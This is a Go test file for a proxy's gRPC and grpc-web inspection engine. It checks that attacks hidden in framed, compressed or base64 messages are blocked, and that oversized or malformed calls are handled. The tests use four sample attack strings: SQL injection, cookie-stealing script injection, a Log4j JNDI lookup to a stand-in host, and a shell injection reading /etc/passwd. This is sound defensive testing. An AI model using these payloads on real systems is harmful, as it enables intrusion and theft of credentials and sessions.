package inspect

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/outrider-mesh/outrider/proxy/config"
	"github.com/outrider-mesh/outrider/proxy/flow"
)

// framed puts the prefix of gRPC in front of a message.
func framed(flags byte, message string) string {
	b := append([]byte{flags}, binary.BigEndian.AppendUint32(nil, uint32(len(message)))...)
	return string(b) + message
}

func gzipped(t testing.TB, s string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// call is a gRPC call as our HTTP/2 engine describes it.
func call(fields ...string) *flow.Request {
	r := request("POST", "/shop.Charges/Create", append([]string{"content-type: application/grpc", "te: trailers"}, fields...)...)
	r.Proto, r.GRPC = "HTTP/2.0", true
	return r
}

// callOf is call with another content type.
func callOf(contentType string) *flow.Request {
	r := request("POST", "/shop.Charges/Create", "content-type: "+contentType, "te: trailers")
	r.Proto, r.GRPC = "HTTP/2.0", true
	return r
}

// unary inspects messages; only those of batch are watched.
func unary(t testing.TB) *Inspector {
	return sharedInspector(t, "unary", config.InspectionSpec{
		CPUMillis: 10_000, // the race detector makes rules ten times as slow
		GRPC:      config.InspectionGRPC{Inspect: config.GRPCUnary},
		Callers:   []config.CallerInspection{{Principals: []string{batch}, Mode: config.DetectOnly}},
	})
}

// small is unary with a cap of 64 bytes, onlyUnary one that refuses further messages.
func small(t testing.TB, overflow config.Overflow) *Inspector {
	return sharedInspector(t, "small"+string(overflow), config.InspectionSpec{
		GRPC: config.InspectionGRPC{Inspect: config.GRPCUnary},
		Body: config.InspectionBody{InspectBytes: 64, Overflow: overflow},
	})
}

func onlyUnary(t testing.TB) *Inspector {
	return sharedInspector(t, "only unary", config.InspectionSpec{
		CPUMillis: 10_000,
		GRPC:      config.InspectionGRPC{Inspect: config.GRPCUnary, Streaming: config.StreamingDeny},
		Callers:   []config.CallerInspection{{Principals: []string{batch}, Mode: config.DetectOnly}},
	})
}

// read plays the caller that has stream to read, whose end it sees or does not.
func read(plan Plan, stream string, ends bool) (body string, complete bool) {
	for n := plan.Wants(nil); n > int64(len(body)) && !complete; n = plan.Wants([]byte(body)) {
		body = stream[:min(n, int64(len(stream)))]
		complete = ends && len(body) == len(stream)
		if int64(len(body)) < n {
			break // it would wait
		}
	}
	return body, complete
}

// calls judges a call whose stream is that.
func calls(t testing.TB, i *Inspector, req *flow.Request, stream string, ends bool) flow.Inspection {
	t.Helper()
	plan := i.Plan(req)
	body, complete := read(plan, stream, ends)
	if int64(len(body)) > plan.BodyBytes {
		t.Errorf("%d bytes were wanted, of %d at most", len(body), plan.BodyBytes)
	}
	return i.Inspect(t.Context(), req, plan, []byte(body), complete)
}

var payloads = map[string]string{
	"SQL":    `1' UNION SELECT password FROM users-- -`,
	"script": `<script>alert(document.cookie)</script>`,
	"log4j":  `${jndi:ldap://evil.example/a}`,
	"shell":  `; cat /etc/passwd`,
}

func TestAttacksInMessagesAreBlocked(t *testing.T) {
	forms := map[string]func(attack string) (*flow.Request, string){
		"a string": func(a string) (*flow.Request, string) {
			return call(), framed(0, stringField(1, "honest")+stringField(2, a))
		},
		"a string of a message": func(a string) (*flow.Request, string) {
			return call(), framed(0, stringField(3, "\x08\x01"+stringField(2, a)))
		},
		"a short string behind bytes": func(a string) (*flow.Request, string) {
			return call(), framed(0, stringField(1, "\xff\xfe\x00")+stringField(2, a))
		},
		"a type with a suffix": func(a string) (*flow.Request, string) {
			return callOf("application/grpc+proto"), framed(0, stringField(2, a))
		},
		"a type that hides behind JSON's": func(a string) (*flow.Request, string) {
			return callOf("application/grpc+json"), framed(0, stringField(2, a))
		},
		"JSON": func(a string) (*flow.Request, string) {
			return callOf("application/grpc+json"), framed(0, fmt.Sprintf(`{"note":%q}`, a))
		},
		"JSON in a call of protobuf": func(a string) (*flow.Request, string) {
			return call(), framed(0, fmt.Sprintf(`{"note":%q}`, a))
		},
		"a string with vertical tabs for spaces": func(a string) (*flow.Request, string) {
			return call(), framed(0, stringField(2, strings.ReplaceAll(a, " ", "\v")))
		},
		"a compressed message": func(a string) (*flow.Request, string) {
			return call("grpc-encoding: gzip"), framed(1, gzipped(t, stringField(2, a)))
		},
		"the second member of a compressed message": func(a string) (*flow.Request, string) {
			return call("grpc-encoding: gzip"), framed(1, gzipped(t, stringField(1, "honest"))+gzipped(t, stringField(2, a)))
		},
		"behind what no message can have": func(a string) (*flow.Request, string) {
			return call(), framed(0, stringField(1, "honest")+"\x07\x07 "+a)
		},
	}
	if len(forms)*len(payloads) < 44 {
		t.Fatalf("only %d forms of %d attacks", len(forms), len(payloads))
	}
	honest := "three coffees, 12.50 EUR"
	for form, make := range forms {
		for name, attack := range payloads {
			req, stream := make(attack)
			if v := calls(t, unary(t), req, stream, true); v.Outcome != flow.Blocked || !v.Refuse || v.Uninspected != flow.Inspected {
				t.Errorf("%s in %s: %+v", name, form, v)
			}
			req.Conn.PeerID = batch
			if v := calls(t, unary(t), req, stream, true); v.Outcome != flow.Detected || v.Refuse {
				t.Errorf("%s in %s, only watched: %+v", name, form, v)
			}
		}
		if form == "a type that hides behind JSON's" {
			continue // no JSON, so refused whatever it holds
		}
		req, stream := make(honest)
		if v := calls(t, unary(t), req, stream, true); v.Outcome != flow.Clean || v.Uninspected != flow.Inspected {
			t.Errorf("an honest call, %s: %+v", form, v)
		}
	}
}

func TestMessagesAreReadAsWhatTheyAre(t *testing.T) {
	for typ, want := range map[string][2]string{
		"application/grpc":                     {framed(0, stringField(2, payloads["SQL"])), "ARGS:body.2"},
		"application/grpc+proto":               {framed(0, stringField(2, payloads["SQL"])), "ARGS:body.2"},
		"application/grpc+json; charset=utf-8": {framed(0, `{"note":"`+payloads["SQL"]+`"}`), "ARGS:json.note"},
		"application/grpc+json":                {framed(0, `{"note":"`+payloads["SQL"]+`"}`), "ARGS:json.note"},
	} {
		if v := calls(t, unary(t), callOf(typ), want[0], true); v.Location != want[1] {
			t.Errorf("%s: %+v, want %s", typ, v, want[1])
		}
	}
}

// How much is read depends on the prefix alone, and never is it more than the cap.
func TestHowMuchOfACallIsRead(t *testing.T) {
	prefix := func(n uint32) string { return string(binary.BigEndian.AppendUint32([]byte{0}, n)) }
	for _, c := range []struct {
		name        string
		read        string
		wants, only int64
	}{
		{"nothing yet", "", 5, 5},
		{"half a prefix", "\x00\x00", 5, 5},
		{"an empty message", prefix(0), 5, 6},
		{"a message", prefix(100), 105, 106},
		{"all of a message", prefix(100) + strings.Repeat("a", 100), 105, 106},
		{"a message and more", prefix(2) + "abc", 7, 8},
		{"a message at the cap", prefix(16384), 16389, 16390},
		{"a message beyond", prefix(16385), 16389, 16389},
		{"the longest message", prefix(1<<32 - 1), 16389, 16389},
		{"no message", "{\"a\":1}", 5, 5},
	} {
		if got := unary(t).Plan(call()).Wants([]byte(c.read)); got != c.wants {
			t.Errorf("%s: %d bytes, want %d", c.name, got, c.wants)
		}
		if got := onlyUnary(t).Plan(call()).Wants([]byte(c.read)); got != c.only {
			t.Errorf("%s, where only one may be: %d bytes, want %d", c.name, got, c.only)
		}
		watched := call()
		watched.Conn.PeerID = batch
		if got := onlyUnary(t).Plan(watched).Wants([]byte(c.read)); got != c.wants {
			t.Errorf("%s, only watched: %d bytes, want %d", c.name, got, c.wants)
		}
	}
}

// What a call is refused or passed for, apart from what its texts say.
func TestMessagesThatAreNotOneWholeMessage(t *testing.T) {
	one := framed(0, stringField(1, "hello"))
	attack := framed(0, stringField(1, payloads["SQL"]))
	long := framed(0, stringField(1, strings.Repeat("a", 100)))
	lateAttack := framed(0, stringField(1, strings.Repeat("a", 100))+stringField(2, payloads["SQL"]))
	bomb := framed(1, gzipped(t, stringField(1, strings.Repeat("a", 1<<20))))
	zip := []string{"grpc-encoding: gzip"}
	cases := []struct {
		name    string
		in      func(testing.TB) *Inspector
		fields  []string
		stream  string
		ends    bool
		outcome flow.Outcome
		reason  flow.Uninspected
		refused bool
	}{
		{"no message", unary, nil, "", true, flow.Clean, flow.Inspected, false},
		{"an empty message", unary, nil, framed(0, ""), true, flow.Clean, flow.Inspected, false},
		{"a stream that may go on", unary, nil, one, false, flow.Clean, flow.Inspected, false},
		{"a second message behind an honest one", unary, nil, one + attack, true, flow.Clean, flow.Inspected, false}, // see noteRest of inbound
		{"an attack before a second message", unary, nil, attack + one, true, flow.Blocked, flow.Inspected, true},
		{"one message where only one may be", onlyUnary, nil, one, true, flow.Clean, flow.Inspected, false},
		{"two messages where only one may be", onlyUnary, nil, one + one, true, flow.NotInspected, flow.Stream, true},
		{"a byte more where only one may be", onlyUnary, nil, one + "\x00", true, flow.NotInspected, flow.Stream, true},
		{"no message where only one may be", onlyUnary, nil, "", true, flow.Clean, flow.Inspected, false},
		{"an attack where only one may be", onlyUnary, nil, attack, true, flow.Blocked, flow.Inspected, true},
		{"an unknown flag where only one may be", onlyUnary, nil, framed(2, "a"), false, flow.Blocked, flow.Inspected, true},
		{"an end inside of the prefix", unary, nil, one[:4], true, flow.Blocked, flow.Inspected, true},
		{"an end inside of the message", unary, nil, one[:8], true, flow.Blocked, flow.Inspected, true},
		{"an unknown flag", unary, nil, framed(0x80, "grpc-status: 0"), true, flow.Blocked, flow.Inspected, true},
		{"an unknown flag beside a known one", unary, nil, framed(3, gzipped(t, "a")), true, flow.Blocked, flow.Inspected, true},
		{"a body of something else", unary, nil, `{"note":"hello, world"}`, true, flow.Blocked, flow.Inspected, true},

		{"longer than the cap", func(t testing.TB) *Inspector { return small(t, config.InspectPrefix) }, nil, long, false, flow.Clean, flow.BodyOverCap, false},
		{"longer than the cap, with an attack in front", func(t testing.TB) *Inspector { return small(t, config.InspectPrefix) }, nil, framed(0, stringField(1, payloads["SQL"])+strings.Repeat("\x08\x01", 50)), false, flow.Blocked, flow.BodyOverCap, true},
		{"longer than the cap, with an attack behind", func(t testing.TB) *Inspector { return small(t, config.InspectPrefix) }, nil, lateAttack, false, flow.Clean, flow.BodyOverCap, false},
		{"longer than the cap, which is refused", func(t testing.TB) *Inspector { return small(t, config.OverflowDeny) }, nil, long, false, flow.NotInspected, flow.BodyOverCap, true},
		{"longer than the cap, which passes", func(t testing.TB) *Inspector { return small(t, config.OverflowPass) }, nil, attack + long, true, flow.Blocked, flow.Inspected, true},
		{"an attack longer than the cap, which passes", func(t testing.TB) *Inspector { return small(t, config.OverflowPass) }, nil, lateAttack, false, flow.NotInspected, flow.BodyOverCap, false},
		{"four gigabytes", func(t testing.TB) *Inspector { return small(t, config.OverflowDeny) }, nil, "\x00\xff\xff\xff\xff" + strings.Repeat("a", 64), false, flow.NotInspected, flow.BodyOverCap, true},
		{"as long as the cap", func(t testing.TB) *Inspector { return small(t, config.OverflowDeny) }, nil, framed(0, stringField(1, strings.Repeat("a", 62))), true, flow.Clean, flow.Inspected, false},

		{"compressed", unary, zip, framed(1, gzipped(t, stringField(1, "hello"))), true, flow.Clean, flow.Inspected, false},
		{"not compressed in a call that compresses", unary, zip, attack, true, flow.Blocked, flow.Inspected, true},
		{"a coding that only the head names", unary, []string{"grpc-encoding: zstd"}, one, true, flow.Clean, flow.Inspected, false},
		{"an unknown coding", unary, []string{"grpc-encoding: zstd"}, framed(1, "\x28\xb5\x2f\xfd"), true, flow.NotInspected, flow.Encoding, true},
		{"compressed, and nobody says how", unary, nil, framed(1, gzipped(t, "a")), true, flow.Blocked, flow.Inspected, true},
		{"compressed by identity", unary, []string{"grpc-encoding: identity"}, framed(1, gzipped(t, "a")), true, flow.Blocked, flow.Inspected, true},
		{"no gzip", unary, zip, framed(1, "hello"), true, flow.Blocked, flow.Inspected, true},
		{"gzip and something else", unary, zip, framed(1, gzipped(t, "a")+"rest"), true, flow.Blocked, flow.Inspected, true},
		{"gzip without its end", unary, zip, framed(1, gzipped(t, "hello")[:20]), true, flow.Blocked, flow.Inspected, true},
		{"nothing, compressed", unary, zip, framed(1, ""), true, flow.Blocked, flow.Inspected, true},
		{"a bomb", unary, zip, bomb, true, flow.Clean, flow.BodyOverCap, false},
		{"a bomb, which is refused", func(t testing.TB) *Inspector { return small(t, config.OverflowDeny) }, zip, bomb, true, flow.NotInspected, flow.BodyOverCap, true},
		{"a body that is coded", unary, []string{"content-encoding: gzip"}, gzipped(t, one), true, flow.NotInspected, flow.Encoding, true},
	}
	if len(cases) < 37 {
		t.Fatalf("only %d cases", len(cases))
	}
	for _, c := range cases {
		v := calls(t, c.in(t), call(c.fields...), c.stream, c.ends)
		if v.Outcome != c.outcome || v.Uninspected != c.reason || v.Refuse != c.refused {
			t.Errorf("%s: %v, %v, refused %t (%+v)", c.name, v.Outcome, v.Uninspected, v.Refuse, v)
		}
		if unparsable := hasRule(v, 7100008); unparsable && v.Bytes != 0 {
			t.Errorf("%s: %d bytes were inspected", c.name, v.Bytes)
		}
	}
	watched := call()
	watched.Conn.PeerID = batch
	if v := calls(t, onlyUnary(t), watched, one+attack, true); v.Outcome != flow.Clean || v.Refuse {
		t.Errorf("a second message that is only watched: %+v", v)
	}
}

// Where policy says nothing, a call costs what it did: no byte of it is read.
func TestMessagesAreLeftAloneByDefault(t *testing.T) {
	plan := mesh(t).Plan(call())
	if plan.Wants(nil) != 0 || plan.BodyBytes != 0 {
		t.Errorf("wants %d bytes", plan.Wants(nil))
	}
	v := calls(t, mesh(t), call(), framed(0, stringField(1, payloads["SQL"])), true)
	if v.Outcome != flow.NotInspected || v.Uninspected != flow.Stream || v.Refuse {
		t.Errorf("%+v", v)
	}
	req, i := call(), unary(t)
	if n := testing.AllocsPerRun(100, func() { p := i.Plan(req); p.Wants(nil) }); n != 0 {
		t.Errorf("a plan of a call makes %v allocations", n)
	}
	notACall := call()
	notACall.Method, notACall.GRPC = "PUT", false // gRPC is POST
	if v := judge(t, mesh(t), notACall, `{"a":"1' UNION SELECT password FROM users-- -"}`); v.Outcome != flow.Blocked {
		t.Errorf("what only looks like a call: %+v", v)
	}
}

// A policy that comes while the body is read may want more of it than there is: what
// is there is a prefix then, and the rest is not taken for inspected.
func TestANewPolicyMayWantMoreOfACall(t *testing.T) {
	req := call()
	old := mesh(t).Plan(req)
	for _, read := range []string{"", "\x00\x00", framed(0, stringField(1, "hello"))[:8]} {
		v := unary(t).Inspect(t.Context(), req, old, []byte(read), false)
		if v.Outcome != flow.Clean || v.Uninspected != flow.BodyOverCap {
			t.Errorf("%q: %+v", read, v)
		}
	}
	req.Conn.PeerID = batch
	for _, read := range []string{"", "\x00\x00"} {
		plan := unary(t).Plan(req)
		if v := unary(t).Inspect(t.Context(), req, plan, []byte(read), false); !plan.Free || v.Outcome != flow.NotInspected || v.Uninspected != flow.Stream || v.Refuse {
			t.Errorf("%q that is only watched: free %t, %+v", read, plan.Free, v)
		}
	}
	req = call()
	if unary(t).Plan(req).Free {
		t.Error("a call that may be refused does not wait for its verdict")
	}
	whole := framed(0, stringField(1, "hello"))
	if v := onlyUnary(t).Inspect(t.Context(), req, unary(t).Plan(req), []byte(whole), false); !v.Refuse || v.Uninspected != flow.Stream {
		t.Errorf("nobody looked for a second message: %+v", v)
	}
}

func TestGRPCWebIsReadByItsMessages(t *testing.T) {
	attack := framed(0, stringField(1, payloads["SQL"]))
	honest := framed(0, stringField(1, "hello"))
	base64s := func(parts ...string) string {
		var b strings.Builder
		for _, p := range parts {
			b.WriteString(base64.StdEncoding.EncodeToString([]byte(p)))
		}
		return b.String()
	}
	cases := []struct {
		name, typ, body string
		fields          []string
		outcome         flow.Outcome
		reason          flow.Uninspected
	}{
		{"an honest call", "application/grpc-web+proto", honest, nil, flow.Clean, flow.Inspected},
		{"an attack", "application/grpc-web+proto", attack, nil, flow.Blocked, flow.Inspected},
		{"a type without a suffix", "application/grpc-web", attack, nil, flow.Blocked, flow.Inspected},
		{"a type with a parameter", "application/grpc-web; a=b", attack, nil, flow.Blocked, flow.Inspected},
		{"an attack in the second message", "application/grpc-web+proto", honest + attack, nil, flow.Blocked, flow.Inspected},
		{"JSON in a message", "application/grpc-web+json", framed(0, `{"a":"1' UNION SELECT password FROM users-- -"}`), nil, flow.Blocked, flow.Inspected},
		{"nothing", "application/grpc-web+proto", "", nil, flow.Clean, flow.Inspected},
		{"no frames", "application/grpc-web+proto", `{"a":1}`, nil, flow.Blocked, flow.Inspected},
		{"half a message", "application/grpc-web+proto", honest[:8], nil, flow.Blocked, flow.Inspected},
		{"a compressed message", "application/grpc-web+proto", framed(1, gzipped(t, "a")), nil, flow.Blocked, flow.Inspected},
		{"messages that may be compressed", "application/grpc-web+proto", honest, []string{"Grpc-Encoding: gzip"}, flow.NotInspected, flow.Encoding},
		{"an honest call in base64", "application/grpc-web-text", base64s(honest), nil, flow.Clean, flow.Inspected},
		{"an attack in base64", "application/grpc-web-text+proto", base64s(attack), nil, flow.Blocked, flow.Inspected},
		{"an attack behind padding", "application/grpc-web-text", base64s(honest, attack), nil, flow.Blocked, flow.Inspected},
		{"no base64", "application/grpc-web-text", "<script>", nil, flow.Blocked, flow.Inspected},
	}
	if len(cases) < 15 {
		t.Fatalf("only %d cases", len(cases))
	}
	for _, c := range cases {
		for _, proto := range []string{"HTTP/1.1", "HTTP/2.0"} {
			req := request("POST", "/shop.Charges/Create", append([]string{"Content-Type: " + c.typ, fmt.Sprintf("Content-Length: %d", len(c.body))}, c.fields...)...)
			req.Proto = proto
			if v := judge(t, mesh(t), req, c.body); v.Outcome != c.outcome || v.Uninspected != c.reason {
				t.Errorf("%s over %s: %+v", c.name, proto, v)
			}
		}
	}
}

func TestSegmentsOfBase64(t *testing.T) {
	for in, want := range map[string]string{"": "", "AAAA": "\x00\x00\x00", "YQ==": "a", "YQ==YmM=ZGVm": "abcdef", "YWJjZA==": "abcd"} {
		if got, err := decodeSegments(in); string(got) != want || err != nil {
			t.Errorf("%q: %q, %v", in, got, err)
		}
	}
	for in, want := range map[string]string{"YWJj!": "abc", "YWJjYQ": "abc", "Y": "", "====": "", "YW Jj": ""} {
		if got, err := decodeSegments(in); string(got) != want || err == nil {
			t.Errorf("%q: %q and no error", in, got)
		}
	}
}

// FuzzFrames: nothing of the bytes is lost or made up, whatever they are.
func FuzzFrames(f *testing.F) {
	f.Add([]byte(framed(0, "hello")+framed(1, "")), uint16(3))
	f.Add([]byte("\x00\xff\xff\xff\xff"), uint16(5))
	f.Add([]byte("\x02\x00"), uint16(0))
	p := &policy{body: config.InspectionBody{InspectBytes: 64}, grpc: config.InspectionGRPC{Streaming: config.StreamingDeny}}
	plan := Plan{BodyBytes: framePrefix + 64 + 1, owner: new(Inspector), rule: rule{policy: p, block: true, call: callFormat{inspected: true, coding: gzipCoding}}}
	f.Fuzz(func(t *testing.T, b []byte, limit uint16) {
		for rest := b; ; {
			fr, more, err := cutFrame(rest)
			if err != nil {
				if errors.Is(err, errFrameCut) != (len(rest) < framePrefix && (len(rest) == 0 || rest[0] < 2)) {
					t.Errorf("%q: %v", rest, err)
				}
				break
			}
			if got := string(rest[:framePrefix]) + string(fr.payload) + string(more); got != string(rest) {
				t.Fatalf("%q became %q", rest, got)
			}
			if !fr.whole() && len(more) > 0 {
				t.Errorf("%q is half a message, and %q behind it", fr.payload, more)
			}
			if rest = more; len(rest) == 0 {
				break
			}
		}
		p.body.InspectBytes = 1 + int(limit)
		plan.BodyBytes = framePrefix + int64(p.body.InspectBytes) + 1
		held, complete := read(plan, string(b), true)
		if int64(len(held)) > plan.BodyBytes {
			t.Errorf("%d bytes are held, of %d at most", len(held), plan.BodyBytes)
		}
		in := plan.inputOfCall(plan.rule, []byte(held), complete)
		if len(in.body) > p.body.InspectBytes {
			t.Errorf("%d bytes are inspected, of %d at most", len(in.body), p.body.InspectBytes)
		}
		if in.broken != nil && len(in.body) > 0 {
			t.Errorf("%v, and %q is inspected", in.broken, in.body)
		}
		if complete && in.reason == flow.Stream && in.broken == nil && len(held) <= framePrefix {
			t.Errorf("%q: a stream without a message", b)
		}
	})
}
